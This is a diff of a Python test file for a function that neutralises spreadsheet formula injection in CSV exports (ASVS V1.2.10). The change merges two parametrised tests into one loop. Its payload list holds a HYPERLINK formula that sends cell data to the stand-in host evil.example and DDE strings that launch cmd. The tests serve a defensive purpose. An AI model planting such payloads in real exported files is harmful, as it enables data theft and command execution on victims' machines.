@@ -18,14 +18,11 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
-@pytest.mark.parametrize("value", PAYLOADS)
-def test_asvs_v1_2_10_text_that_a_spreadsheet_would_run_is_quoted(value):
-    assert neutralise(value) == "'" + value
-
-
-@pytest.mark.parametrize("value", [-5, Decimal("-1200.50"), 0, 3.5, None, "Legal advice", "2025-09-30", "'=already"])
-def test_asvs_v1_2_10_numbers_and_plain_text_are_left_alone(value):
-    assert neutralise(value) == value
+def test_asvs_v1_2_10_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers():
+    for value in PAYLOADS:
+        assert neutralise(value) == "'" + value
+    for value in [-5, Decimal("-1200.50"), 0, 3.5, None, "Legal advice", "2025-09-30", "'=already"]:
+        assert neutralise(value) == value
 
 
 def csv_rows(response):
